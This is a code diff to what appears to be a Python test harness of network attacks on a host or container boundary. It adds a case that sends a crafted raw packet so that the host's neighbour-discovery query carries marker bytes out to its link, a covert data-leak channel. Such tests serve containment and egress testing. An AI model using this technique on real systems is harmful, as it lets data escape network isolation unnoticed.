@@ -1,6 +1,7 @@
 """Below the sockets: packet sockets, devices of the attacker's own making, tunnels, containers that are forwarded."""
 import ctypes
 import errno
+import ipaddress
 import mmap
 import os
 import socket
@@ -335,6 +336,13 @@ def box_fragments(t):
     s = packet_socket()
     for p in raw.old_fragment_overlapping.packets(t):
         s.send(ether(t, p))
+
+
+@attack(BOX, "the data as the address of a neighbour of the host's, which the host asks its link for", "", "", where="box",
+        leaves="it is the host's own question, which comes before the packet: 1 byte of an IPv4 address, 8 of an IPv6 one, to its link")
+def box_neighbour(t):
+    to = "10.0.1.77" if t.family == 4 else str(ipaddress.IPv6Address(b"\xfd\0\0\1" + bytes(4) + t.marker))
+    packet_socket().send(ether(t, craft.ip(t.source, to, craft.UDP, craft.udp(t.source, to, 4444, t.port, b"x"))))
 
 
 @attack(BOX, "a forwarded echo request", "uplink", "forwarded", where="box")
